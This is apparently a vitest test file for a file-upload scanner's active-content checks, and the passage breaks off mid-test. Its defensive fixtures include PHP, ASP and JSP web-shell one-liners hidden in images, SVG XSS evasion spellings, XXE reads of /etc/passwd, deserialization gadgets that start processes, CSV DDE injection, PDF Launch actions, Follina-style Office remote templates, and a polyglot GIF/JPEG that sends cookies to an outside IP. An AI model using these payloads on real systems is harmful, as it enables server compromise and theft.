import { deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { biffWorkbook, cfb, gif, jpeg, pdf, png, pngChunk, zip } from '../test-support/bytes.js';
import { auditor, found } from '../test-support/scan.js';

const audit = auditor();
const active = async (name: string, bytes: string | Buffer, policy?: string): Promise<string[]> =>
  found(await audit({ [name]: bytes }, policy), 'active-content').map((f) => f.split(' ')[1]!.split('/')[1]!);

const GIF_WITH_PHP = Buffer.concat([
  gif().subarray(0, 13),
  Buffer.from('!\xfe\x1d<?php system($_GET[0]); ?>\x00', 'latin1'),
  gif().subarray(13),
]);
const big = (bytes: Buffer, extra = 64 * 1024): Buffer => Buffer.concat([bytes, Buffer.alloc(extra, 0x41)]);

describe('active-content: server-side code in binary files', () => {
  it('a server-side include that runs a command, in a GIF', async () => {
    const gifSsi = Buffer.concat([
      gif().subarray(0, 13),
      Buffer.from('!\xfe\x1a<!--#exec cmd="id" -->\x00', 'latin1'),
      gif().subarray(13),
    ]);
    expect(await active('a.gif', gifSsi)).toEqual(['server-code']);
  });

  it.each([
    ['a JPEG', 'a.jpg', jpeg(), []],
    ['a JPEG whose bytes contain <?', 'a.jpg', jpeg('<? not php <% neither'), []],
    ['a PNG', 'a.png', png(), []],
    ['PHP in a GIF comment', 'a.gif', GIF_WITH_PHP, ['server-code']],
    ['PHP in a JPEG COM segment', 'a.jpg', jpeg('<?php eval($_POST["x"]); ?>'), ['server-code']],
    [
      'PHP appended after a small PNG',
      'a.png',
      Buffer.concat([png(), Buffer.from('<?php echo 1; ?>')]),
      ['server-code'],
    ],
    [
      'PHP appended after a large PNG (tail)',
      'a.png',
      Buffer.concat([big(png()), Buffer.from('<?php echo 1; ?>')]),
      ['server-code'],
    ],
    ['short echo tag', 'a.gif', Buffer.concat([gif(), Buffer.from('<?= $_GET[1] ?>')]), ['server-code']],
    ['JSP in a JPEG', 'a.jpg', jpeg('<%@ page import="java.io.*" %>'), ['server-code']],
    [
      'an ASP.NET server script block in a GIF',
      'a.gif',
      Buffer.concat([gif(), Buffer.from('<script runat="server">Response.Write(1)</script>')]),
      ['html', 'server-code'],
    ],
    ['a PHP short open tag in a JPEG', 'a.jpg', jpeg('<? system($_GET["c"]); ?>'), ['server-code']],
    [
      'an ASP.NET handler directive in a JPEG',
      'a.jpg',
      jpeg('<%@ WebHandler Language="C#" Class="H" %>'),
      ['server-code'],
    ],
    [
      'an ASP.NET page directive in a GIF',
      'a.gif',
      Buffer.concat([gif(), Buffer.from('<%@ Page Language="Jscript"%>')]),
      ['server-code'],
    ],
    [
      'a JSP declaration in a PNG tail',
      'a.png',
      Buffer.concat([png(), Buffer.from('<%! public String run() { return ""; } %>')]),
      ['server-code'],
    ],
    [
      'ColdFusion in a GIF',
      'a.gif',
      Buffer.concat([gif(), Buffer.from('<cfexecute name="cmd.exe" arguments="/c dir">')]),
      ['server-code'],
    ],
    // The one-liners of web shell collections, each in a GIF's tail.
    ...[
      '<?=@$_GET[0]($_POST[1]);?>',
      '<?=`$_GET[1]`;?>',
      '<?=("sys"."tem")($_GET[0]);?>',
      '<? $_GET[0]($_POST[1]); ?>',
      '<?\n@eval($_POST[x]);',
      '<% Set s=CreateObject("WScript.Shell"):s.Run(Request("c")) %>',
      '<%=CreateObject("WScript.Shell").Exec(Request("c")).StdOut.ReadAll()%>',
    ].map((shell): [string, string, Buffer, string[]] => [
      `the one-liner ${shell}`,
      'a.gif',
      Buffer.concat([gif(), Buffer.from(shell)]),
      ['server-code'],
    ]),
    [
      'an XML processing instruction in a JPEG comment',
      'a.jpg',
      jpeg('<?xml version="1.0"?><?xpacket begin=""?>'),
      [],
    ],
    [
      'ASP in a PNG tail',
      'a.png',
      Buffer.concat([png(), Buffer.from('<% eval request("x") %>')]),
      ['server-code'],
    ],
    [
      'HTML appended after a GIF',
      'a.gif',
      Buffer.concat([gif(), Buffer.from('<script>alert(1)</script>')]),
      ['html'],
    ],
  ])('%s', async (_label, name, bytes, expected) => {
    expect(await active(name, bytes)).toEqual(expected);
  });

  it('does not see a payload in the middle of a large file: maxSniffBytes and maxTailBytes are the bounds', async () => {
    const middle = Buffer.concat([big(png()), Buffer.from('<?php echo 1; ?>'), Buffer.alloc(64 * 1024)]);
    expect(await active('a.png', middle)).toEqual([]);
    expect(await active('a.png', middle, 'bounds: { maxSniffBytes: 1048576 }')).toEqual(['server-code']);
  });
});

describe('active-content: markup', () => {
  const svg = (body: string, attrs = ''): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${attrs}>${body}</svg>`;
  it.each([
    ['a plain SVG icon', svg('<path d="M0 0h24v24H0z" fill="none"/><use href="#a"/>'), []],
    ['script', svg('<script>alert(1)</script>'), ['svg-script']],
    ['onload', svg('<rect/>', ' onload="alert(1)"'), ['svg-script']],
    ['javascript: URL', svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'), ['svg-script']],
    ['foreignObject', svg('<foreignObject><iframe src="x"/></foreignObject>'), ['svg-script']],
    [
      'a handler set by an animation',
      svg('<set attributeName="onmouseover" to="alert(1)"/>'),
      ['svg-script'],
    ],
    [
      "SVG Tiny's handler element",
      svg('<handler type="application/ecmascript">alert(1)</handler>'),
      ['svg-script'],
    ],
    [
      'animations of ordinary attributes',
      svg('<rect><animate attributeName="opacity" values="0;1"/><set attributeName="fill" to="red"/></rect>'),
      [],
    ],
    // The filter-evasion spellings of javascript: a browser still follows.
    [
      'a hex reference in the scheme',
      svg('<a xlink:href="jav&#x61;script:alert(1)"><text>x</text></a>'),
      ['svg-script'],
    ],
    ['decimal references', svg('<a href="&#106;&#97;vascript:alert(1)"><text>x</text></a>'), ['svg-script']],
    [
      'references without semicolons',
      svg('<a href="&#106&#97vascript:alert(1)"><text>x</text></a>'),
      ['svg-script'],
    ],
    ['a named colon', svg('<a href="javascript&colon;alert(1)"><text>x</text></a>'), ['svg-script']],
    ['a tab inside the scheme', svg('<a href="java\tscript:alert(1)"><text>x</text></a>'), ['svg-script']],
    ['an encoded newline', svg('<a href="java&NewLine;script:alert(1)"><text>x</text></a>'), ['svg-script']],
    ['leading controls', svg('<a href=" &#1;javascript:alert(1)"><text>x</text></a>'), ['svg-script']],
    ['an unquoted value', svg('<a href=javascript:alert(1)><text>x</text></a>'), ['svg-script']],
    [
      'a later item of values',
      svg('<a><animate attributeName="href" values="#a;javascript:alert(1)"/></a>'),
      ['svg-script'],
    ],
    ['data: HTML', svg('<a href="data:text/html;base64,PHNjcmlwdD4="><text>x</text></a>'), ['svg-script']],
    ['a handler after a slash', svg('<image/onerror=alert(1) href=x>'), ['svg-script']],
    // Look-alikes that run nothing.
    ['a fragment named javascript', svg('<a href="#javascript-notes"><text>x</text></a>'), []],
    [
      'a path holding javascript:',
      svg('<a href="https://example.com/learn/javascript:intro"><text>x</text></a>'),
      [],
    ],
    [
      'the word in a title',
      svg('<a href="/docs" title="javascript: the good parts"><text>javascript:</text></a>'),
      [],
    ],
    [
      'an animation to a number',
      svg('<rect><animate attributeName="x" from="0" to="10" values="0;5;10"/></rect>'),
      [],
    ],
    ['a URL path with /on…=', svg('<a href="https://example.com/x/onsale=1"><text>x</text></a>'), []],
    ['external image', svg('<image href="https://tracker.example/p.gif"/>'), ['external-reference']],
    [
      'a script element with a namespace prefix',
      svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
      ['svg-script'],
    ],
    [
      'a prefixed foreignObject',
      svg('<s:foreignObject xmlns:s="http://www.w3.org/2000/svg"/>'),
      ['svg-script'],
    ],
    [
      'an image converter pseudo-scheme',
      svg('<image xlink:href="text:/etc/passwd"/>'),
      ['external-reference'],
    ],
    ['a file: reference through use', svg('<use href="file:///etc/passwd#x"/>'), ['external-reference']],
    [
      'a remote stylesheet processing instruction',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>${svg('<rect/>')}`,
      ['external-reference'],
    ],
    [
      'a local CSS stylesheet processing instruction',
      `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="style.css"?>${svg('<rect/>')}`,
      [],
    ],
    ['an ordinary navigation link', svg('<a href="https://example.com/about"><text>about</text></a>'), []],
    ['an embedded data: image', svg('<image href="data:image/png;base64,iVBORw0KGgo="/>'), []],
    [
      'an SVG with a handler inside a base64 data: URL',
      svg(
        `<use href="data:image/svg+xml;base64,${Buffer.from(svg('<image href="x" onerror="alert(1)"/>')).toString('base64')}#x"/>`,
      ),
      ['svg-script'],
    ],
    [
      'a script inside a percent-encoded data: URL',
      svg(`<image href="data:image/svg+xml,${encodeURIComponent(svg('<script>alert(1)</script>'))}"/>`),
      ['svg-script'],
    ],
    [
      'a plain icon inside a data: URL',
      svg(
        `<image href="data:image/svg+xml;base64,${Buffer.from(svg('<circle r="4"/>')).toString('base64')}"/>`,
      ),
      [],
    ],
    [
      'XXE',
      `<?xml version="1.0"?>\n<!DOCTYPE svg [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>\n${svg('<text>&x;</text>')}`,
      ['xxe'],
    ],
  ])('%s', async (_label, text, expected) => {
    expect(await active('logo.svg', text)).toEqual(expected);
  });

  it('reports XSLT stylesheets whatever their extension, and not other XML', async () => {
    const xsl = (root: string) =>
      `<?xml version="1.0"?><${root} version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"/></${root}>`;
    expect(await active('t.xsl', xsl('xsl:stylesheet'))).toEqual(['xslt']);
    expect(await active('data.xml', xsl('xsl:transform'))).toEqual(['xslt']);
    expect(await active('feed.xml', '<?xml version="1.0"?><rss version="2.0"><channel/></rss>')).toEqual([]);
    expect(
      await active(
        'page.xml',
        '<?xml version="1.0"?><stylesheet-notes>see XSL/Transform docs</stylesheet-notes>',
      ),
    ).toEqual([]);
  });

  it('reports XML a server turns into objects that start a process, not configuration', async () => {
    const jetty = (body: string) =>
      `<?xml version="1.0"?>\n<!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "https://www.eclipse.org/jetty/configure_10_0.dtd">\n<Configure class="org.eclipse.jetty.server.handler.ContextHandler">${body}</Configure>`;
    expect(
      await active(
        'context.xml',
        jetty(
          '<Call class="java.lang.Runtime" name="getRuntime"><Call name="exec"><Arg>id</Arg></Call></Call>',
        ),
      ),
    ).toEqual(['server-code']);
    // the same, named as a picture: the content is still the server's
    expect(await active('a.jpg', jetty('<Call class="java.lang.Runtime" name="getRuntime"/>'))).toEqual([
      'server-code',
    ]);
    const spring =
      '<beans xmlns="http://www.springframework.org/schema/beans"><bean id="pb" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list><value>sh</value></list></constructor-arg></bean></beans>';
    expect(await active('beans.xml', spring)).toEqual(['server-code']);
    const decoder =
      '<?xml version="1.0"?><java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>';
    expect(await active('data.xml', decoder)).toEqual(['server-code']);
    const xaml =
      '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:d="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="a" ObjectType="{x:Type d:Process}" MethodName="Start"/></ResourceDictionary>';
    expect(await active('style.xml', xaml)).toEqual(['server-code']);
    const workflow =
      '<WorkflowService xmlns="http://schemas.microsoft.com/netfx/2009/xaml/servicemodel"><InArgument>[System.Diagnostics.Process.Start("cmd.exe", "/c calc").toString()]</InArgument></WorkflowService>';
    expect(await active('service.xml', workflow)).toEqual(['server-code']);
    // look-alikes: a Jetty context and Spring beans that only set values; prose naming the classes
    expect(await active('context.xml', jetty('<Set name="contextPath">/app</Set>'))).toEqual([]);
    expect(
      await active(
        'beans.xml',
        '<beans xmlns="http://www.springframework.org/schema/beans"><bean id="ds" class="org.apache.commons.dbcp2.BasicDataSource"/></beans>',
      ),
    ).toEqual([]);
    expect(
      await active(
        'notes.xml',
        '<?xml version="1.0"?><notes><p>Avoid java.lang.Runtime and System.Diagnostics.Process in handlers.</p></notes>',
      ),
    ).toEqual([]);
  });

  it('reports HTML documents whatever their extension, and leaves XML without entities alone', async () => {
    expect(await active('page.html', '<!DOCTYPE html><html><body>hi</body></html>')).toEqual(['html']);
    expect(
      await active('feed.xml', '<?xml version="1.0"?>\n<!DOCTYPE feed>\n<feed><title>x</title></feed>'),
    ).toEqual([]);
    expect(
      await active(
        'x.xml',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p PUBLIC "x" "http://evil/x.dtd"> %p;]><r/>',
      ),
    ).toEqual(['xxe']);
  });

  it.each([
    [
      'an XHTML script element in another vocabulary',
      '<root><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></root>',
      ['svg-script'],
    ],
    [
      'an XHTML element with a handler',
      '<root><a:img xmlns:a="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></root>',
      ['svg-script'],
    ],
    [
      'a remote stylesheet processing instruction',
      '<?xml-stylesheet type="text/xsl" href="https://203.0.113.9/x.xsl"?><feed/>',
      ['external-reference'],
    ],
    [
      'a reference through a scheme converters read files with',
      '<doc><include href="file:///etc/passwd"/></doc>',
      ['external-reference'],
    ],
    // Data, not pages: nothing in these loads or runs in a browser or a converter.
    [
      'an Atom feed',
      '<feed xmlns="http://www.w3.org/2005/Atom"><link href="https://example.org/"/></feed>',
      [],
    ],
    [
      'a GPX track',
      '<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><metadata><link href="https://www.garmin.com"><text>Garmin</text></link></metadata></gpx>',
      [],
    ],
    [
      'a devhelp book with an online= attribute',
      '<book xmlns="http://www.devhelp.net/book" title="x" online="https://www.gnu.org/"/>',
      [],
    ],
    ['a config with onclick= data', '<config><event onclick="doThing()"/></config>', []],
  ])('XML of another vocabulary: %s', async (_label, body, expected) => {
    expect(await active('data.xml', `<?xml version="1.0"?>\n${body}`)).toEqual(expected);
  });

  it('reports a DTD loaded from a URL by its system identifier (out-of-band XXE), not standard public DTDs', async () => {
    const doc = (doctype: string) => `<?xml version="1.0"?>\n${doctype}\n<r>x</r>`;
    expect(await active('data.xml', doc('<!DOCTYPE r SYSTEM "http://203.0.113.9/x.dtd">'))).toEqual(['xxe']);
    expect(await active('logo.svg', `<!DOCTYPE svg SYSTEM 'ftp://203.0.113.9/x.dtd'>${svg('')}`)).toEqual([
      'xxe',
    ]);
    // What benign files carry: the W3C SVG and XHTML DTDs by public identifier, a DTD beside
    // the document, HTML5's legacy-compat doctype.
    expect(
      await active(
        'icon.svg',
        `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${svg('')}`,
      ),
    ).toEqual([]);
    expect(await active('log4j.xml', doc('<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd">'))).toEqual([]);
    expect(await active('page.html', '<!DOCTYPE html SYSTEM "about:legacy-compat"><html></html>')).toEqual([
      'html',
    ]);
  });

  it('says when an archive is of a format it does not open, and nothing of a zip', async () => {
    const sevenZip = Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(64, 1)]);
    const bzip2 = Buffer.concat([Buffer.from('BZh91AY&SY', 'latin1'), Buffer.alloc(64, 1)]);
    expect(await active('photos.7z', sevenZip)).toEqual(['incomplete']);
    expect(await active('site.tar.bz2', bzip2)).toEqual(['incomplete']);
    expect(await active('photos.zip', zip({ 'a.txt': 'hello' }))).toEqual([]);
  });

  it('says when a markup file was longer than it scanned', async () => {
    const long = `<svg xmlns="http://www.w3.org/2000/svg">${' '.repeat(300 * 1024)}<script>x</script></svg>`;
    expect(await active('big.svg', long)).toEqual(['incomplete']);
  });
});

describe('active-content: CSV formulas', () => {
  it.each([
    ['a DDE command', 'name,amount\nbob,"=cmd|\' /C calc\'!A0"\n', ['csv-formula']],
    ['@SUM with a pipe', "a;b\n1;@SUM(1+1)*cmd|' /C calc'!A0\n", ['csv-formula']],
    ['a leading @ function', 'x,y\n@SUM(1+9),2\n', ['csv-formula']],
    ['a link out', 'title\n=HYPERLINK("http://evil.example/?"&A1,"click")\n', ['csv-formula']],
    ['a fetch', 'q\n+IMPORTXML(CONCAT("http://evil.example/",A1),"//a")\n', ['csv-formula']],
    ['plain arithmetic', 'x\n=2+3\n=SUM(A1:A3)\n', []],
    ['negative numbers and phone numbers', 'amount,phone\n-42,+1 555 0100\n-0.5,+44 20 7946\n', []],
    ['mentions and emails', 'who,mail\n@alice,alice@example.com\n', []],
  ])('%s', async (_label, text, expected) => {
    expect(await active('export.csv', text)).toEqual(expected);
  });

  it('reads formulas in CSV only, not in other text', async () => {
    expect(await active('notes.txt', "=cmd|' /C calc'!A0\n")).toEqual([]);
  });
});

describe('active-content: PDF', () => {
  const flate = (text: string): Buffer => {
    const body = deflateSync(Buffer.from(text));
    return Buffer.concat([
      pdf(),
      Buffer.from(`4 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length ${body.length} >>\nstream\n`),
      body,
      Buffer.from('\nendstream\nendobj\n'),
    ]);
  };
  it.each([
    ['a plain PDF', pdf(), []],
    [
      'a PDF with ordinary links',
      pdf('/Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>] '),
      [],
    ],
    ['an OpenAction to a page', pdf('/OpenAction [3 0 R /Fit] '), []],
    ['JavaScript', pdf('/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >> '), ['pdf-action']],
    ['obfuscated name', pdf('/OpenAction << /S /J#61vaScript /J#53 (x) >> '), ['pdf-action']],
    ['Launch', pdf('/OpenAction << /S /Launch /F (cmd.exe) >> '), ['pdf-action']],
    [
      'a RichMedia annotation (Flash played in the page)',
      pdf('/Annots [<< /Type /Annot /Subtype /RichMedia /RichMediaContent 9 0 R >>] '),
      ['pdf-action'],
    ],
    [
      'a web address opened when the document opens',
      pdf('/OpenAction << /S /URI /URI (http://203.0.113.9/t) >> '),
      ['pdf-action'],
    ],
    ['an OpenAction to a page, by a GoTo action', pdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] >> '), []],
    [
      'JavaScript inside a compressed object stream',
      flate('<< /S /JavaScript /JS (app.alert(1)) >>'),
      ['pdf-action'],
    ],
    [
      'an embedded file',
      pdf('/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> '),
      ['pdf-attachment'],
    ],
    [
      'an escaped name inside a compressed object stream',
      flate('<< /OpenAction << /S /J#61vaScript /JS (x) >> >>'),
      ['pdf-action'],
    ],
    [
      // Page content is drawing data: text that reads like a key there runs nothing.
      'a compressed page content stream that talks about /JavaScript and /Launch',
      Buffer.concat([
        pdf(),
        (() => {
          const body = deflateSync(Buffer.from('BT (see /JavaScript and /Launch in chapter 3) Tj ET'));
          return Buffer.concat([
            Buffer.from(`5 0 obj\n<< /Filter /FlateDecode /Length ${body.length} >>\nstream\n`),
            body,
            Buffer.from('\nendstream\nendobj\n'),
          ]);
        })(),
      ]),
      [],
    ],
    [
      'a key cut in two by the boundary between two pieces read',
      Buffer.concat([
        pdf().subarray(0, 9),
        // /Launch starts 3 bytes before the 1 MiB mark, where a piece would end without overlap.
        Buffer.alloc(1024 * 1024 - 3 - 10 - 9, 0x20),
        Buffer.from('<< /F (x) /Launch >>\n'),
        pdf().subarray(9),
      ]),
      ['pdf-action'],
    ],
  ])('%s', async (_label, bytes, expected) => {
    expect(await active('doc.pdf', bytes)).toEqual(expected);
  });

  it("reads an XML form's scripts in the streams its /XFA names", async () => {
    const stream = (number: number, xml: string) => {
      const body = deflateSync(Buffer.from(xml));
      return Buffer.concat([
        Buffer.from(`${number} 0 obj\n<< /Filter /FlateDecode /Length ${body.length} >>\nstream\n`),
        body,
        Buffer.from('\nendstream\nendobj\n'),
      ]);
    };
    const template = (script: string) =>
      `<template xmlns="http://www.xfa.org/schema/xfa-template/2.8/"><subform><event activity="initialize">${script}</event></subform></template>`;
    const form = (xfa: string, ...streams: Buffer[]) =>
      Buffer.concat([pdf(`/AcroForm << /Fields [] /XFA ${xfa} >> `), ...streams]);
    const js = '<script contentType="application/x-javascript">app.alert(1)</script>';
    expect(await active('form.pdf', form('7 0 R', stream(7, template(js))))).toEqual(['pdf-action']);
    expect(
      await active(
        'form.pdf',
        form('[(preamble) 8 0 R (template) 9 0 R]', stream(8, '<xdp:xdp>'), stream(9, template(js))),
      ),
    ).toEqual(['pdf-action']);
    // FormCalc, the default script language, and a form without scripts
    expect(
      await active('form.pdf', form('7 0 R', stream(7, template('<script>Sum(a, b)</script>')))),
    ).toEqual([]);
    expect(await active('form.pdf', form('7 0 R', stream(7, template(''))))).toEqual([]);
  });

  it('names the files a PDF embeds, and judges the names as archive entries', async () => {
    const attached = (filespec: string) =>
      pdf(`/Names << /EmbeddedFiles << /Names [(x) 9 0 R] >> >> /AF [<< /Type /Filespec ${filespec} >>] `);
    const findings = async (bytes: Buffer) =>
      found(await audit({ 'doc.pdf': bytes }), 'archive', 'active-content').sort();
    // a program, by its Unicode name (UTF-16BE, hex) beside an older plain one
    expect(
      await findings(
        attached(
          `/F (invoice.pdf) /UF <FEFF0069006E0076006F006900630065002E007000640066002E006500780065> /EF << /F 10 0 R >>`,
        ),
      ),
    ).toEqual(['doc.pdf active-content/pdf-attachment', 'doc.pdf!invoice.pdf.exe archive/dangerous-entry']);
    // a script, its name escaped as PDF strings allow, inside a compressed object stream
    expect(
      await findings(flate('<< /Type /Filespec /F (run\\(1\\).js) /EF << /F 10 0 R >> >> /EmbeddedFile')),
    ).toEqual(['doc.pdf active-content/pdf-attachment', 'doc.pdf!run(1).js archive/dangerous-entry']);
    // an e-invoice's XML (Factur-X, ZUGFeRD): an attachment, not a dangerous one
    expect(
      await findings(
        attached(
          '/F (factur-x.xml) /UF (factur-x.xml) /AFRelationship /Alternative /EF << /F 10 0 R /UF 11 0 R >>',
        ),
      ),
    ).toEqual(['doc.pdf active-content/pdf-attachment']);
    // /F of a launch action is no embedded file's name
    expect(await findings(pdf('/OpenAction << /S /Launch /F (cmd.exe) >> '))).toEqual([
      'doc.pdf active-content/pdf-action',
    ]);
  });

  it('stops inflating at maxInflateBytes and says so', async () => {
    const bomb = flate(`${' '.repeat(2 * 1024 * 1024)}/JavaScript`);
    expect(await active('doc.pdf', bomb, 'bounds: { maxInflateBytes: 1MiB }')).toEqual(['incomplete']);
  });
});

describe('active-content: an image that is also a script (CSP bypass)', () => {
  const opened = (image: Buffer, at: number) => {
    const bytes = Buffer.from(image);
    bytes.write('/*', at, 'latin1');
    return bytes;
  };
  it.each([
    [
      'a GIF whose width opens a comment that closes into a statement',
      'avatar.gif',
      Buffer.concat([opened(gif(), 6), Buffer.from('*/=alert(document.domain);//')]),
      ['html'],
    ],
    [
      'a JPEG whose first segment length opens the comment',
      'avatar.jpg',
      Buffer.concat([opened(jpeg(), 4), Buffer.from('*/;fetch(`//203.0.113.9/`+document.cookie)//')]),
      ['html'],
    ],
    // look-alikes: an ordinary GIF ending in the same bytes; the header open, nothing after the comment
    ['an ordinary GIF with the bytes later', 'a.gif', Buffer.concat([gif(), Buffer.from('*/=alert(1)')]), []],
    [
      'a GIF opening a comment, no statement',
      'b.gif',
      Buffer.concat([opened(gif(), 6), Buffer.from('*/ 1')]),
      [],
    ],
  ])('%s', async (_label, name, bytes, expected) => {
    expect(await active(name, bytes)).toEqual(expected);
  });
});

describe('active-content: Office macros', () => {
  const docx = (extra: Record<string, string> = {}) =>
    zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...extra });
  it.each([
    ['a docx without macros', 'letter.docx', docx(), []],
    [
      'a docm with vbaProject.bin',
      'letter.docm',
      docx({ 'word/vbaProject.bin': 'Attribute VB_Name' }),
      ['macro'],
    ],
    [
      // Its content types say macro-enabled, so it is detected as an .xlsm, not a zip: still opened.
      'an xlsm detected as macro-enabled',
      'budget.xlsm',
      zip({
        '[Content_Types].xml':
          '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
        'xl/workbook.xml': '<workbook/>',
        'xl/vbaProject.bin': 'Attribute VB_Name',
      }),
      ['macro'],
    ],
    [
      'an xlsm detected as macro-enabled, without macro storage',
      'budget.xlsm',
      zip({
        '[Content_Types].xml':
          '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
        'xl/workbook.xml': '<workbook/>',
      }),
      [],
    ],
    [
      'an xlsx that smuggles vbaProject.bin',
      'sheet.xlsx',
      zip({ '[Content_Types].xml': '<Types/>', 'xl/vbaProject.bin': 'x' }),
      ['macro'],
    ],
    [
      'an xlsm with an Excel 4.0 macro sheet',
      'budget.xlsm',
      zip({ '[Content_Types].xml': '<Types/>', 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }),
      ['macro'],
    ],
    [
      'an xlsx whose worksheets are ordinary',
      'budget.xlsx',
      zip({ '[Content_Types].xml': '<Types/>', 'xl/worksheets/sheet1.xml': '<worksheet/>' }),
      [],
    ],
    [
      'an ODT with Basic macros',
      'doc.odt',
      zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'Basic/Standard/Module1.xml': '<x/>' }),
      ['macro'],
    ],
    [
      'an ODT without',
      'doc.odt',
      zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<x/>' }),
      [],
    ],
  ])('%s', async (_label, name, bytes, expected) => {
    expect(await active(name, bytes)).toEqual(expected);
  });
});

describe('active-content: macros in legacy Office files (OLE2)', () => {
  const word = [
    { name: 'WordDocument', type: 'stream' },
    { name: '1Table', type: 'stream' },
    { name: '\u0005SummaryInformation', type: 'stream' },
  ] as const;
  it.each([
    ['a Word document', 'letter.doc', cfb([...word]), []],
    [
      'a Word document with a VBA project',
      'invoice.doc',
      cfb([...word, { name: 'Macros', type: 'storage' }, { name: 'VBA', type: 'storage' }]),
      ['macro'],
    ],
    [
      'an Excel workbook with a VBA project, its directory over a chain of sectors',
      'report.xls',
      cfb(
        [
          { name: 'Workbook', type: 'stream' },
          { name: 'DocumentSummaryInformation', type: 'stream' },
          { name: '_VBA_PROJECT_CUR', type: 'storage' },
        ],
        1,
      ),
      ['macro'],
    ],
    [
      'a stream whose name only contains VBA',
      'notes.doc',
      cfb([...word, { name: 'VBAnotes', type: 'stream' }]),
      [],
    ],
    [
      'an Excel workbook with an Excel 4.0 macro sheet',
      'invoice.xls',
      cfb([
        {
          name: 'Workbook',
          type: 'stream',
          data: biffWorkbook([
            { name: 'Sheet1', type: 0 },
            { name: 'Macro1', type: 1 },
          ]),
        },
      ]),
      ['macro'],
    ],
    [
      'an Excel workbook of worksheets',
      'budget.xls',
      cfb([{ name: 'Workbook', type: 'stream', data: biffWorkbook([{ name: 'Sheet1', type: 0 }]) }]),
      [],
    ],
    [
      'a Compound File cut short',
      'cut.doc',
      cfb([...word, { name: 'VBA', type: 'storage' }]).subarray(0, 700),
      [],
    ],
  ])('%s', async (_label, name, bytes, expected) => {
    expect(await active(name, bytes)).toEqual(expected);
  });
});

describe('active-content: Office documents that load or run something from outside', () => {
  const rel = (type: string, target: string, external = true) =>
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/></Relationships>`;
  const docx = (rels: Record<string, string>) =>
    zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...rels });
  it.each([
    [
      'a remote template (macros fetched when it opens)',
      docx({ 'word/_rels/settings.xml.rels': rel('attachedTemplate', 'http://203.0.113.9/t.dotm') }),
      ['office-remote'],
    ],
    [
      'an external OLE object over mhtml: (Follina)',
      docx({
        'word/_rels/document.xml.rels': rel(
          'oleObject',
          'mhtml:http://203.0.113.9/x.html!x-usc:http://203.0.113.9/x.html',
        ),
      }),
      ['office-remote'],
    ],
    [
      'a hyperlink with the ms-msdt: scheme',
      docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'ms-msdt:/id PCWDiagnostic') }),
      ['office-remote'],
    ],
    [
      'a remote template in a relationship written with a namespace prefix',
      docx({
        'word/_rels/settings.xml.rels': rel('attachedTemplate', 'http://203.0.113.9/t.dotm')
          .replace('<Relationships xmlns=', '<pr:Relationships xmlns:pr=')
          .replace('<Relationship ', '<pr:Relationship ')
          .replace('</Relationships>', '</pr:Relationships>'),
      }),
      ['office-remote'],
    ],
    [
      'the ms-msdt: scheme spelled with a character reference',
      docx({ 'word/_rels/document.xml.rels': rel('hyperlink', '&#x6D;s-msdt:/id PCWDiagnostic') }),
      ['office-remote'],
    ],
    [
      'a template on another machine, by UNC path (it also sends the NTLM hash)',
      docx({ 'word/_rels/settings.xml.rels': rel('attachedTemplate', '\\\\203.0.113.9\\s\\t.dotm') }),
      ['office-remote'],
    ],
    [
      'a template at file://host/',
      docx({ 'word/_rels/settings.xml.rels': rel('attachedTemplate', 'file://203.0.113.9/s/t.dotm') }),
      ['office-remote'],
    ],
    [
      'a hyperlink to a share on another machine',
      docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'file:////203.0.113.9/s/x.docx') }),
      ['office-remote'],
    ],
    [
      "a hyperlink that starts a program on the reader's disk",
      docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'file:///C:/Windows/System32/cmd.exe') }),
      ['office-remote'],
    ],
    [
      "PowerPoint's mouse-over that runs a program found on the PATH",
      zip({
        '[Content_Types].xml': '<Types/>',
        'ppt/slides/slide1.xml':
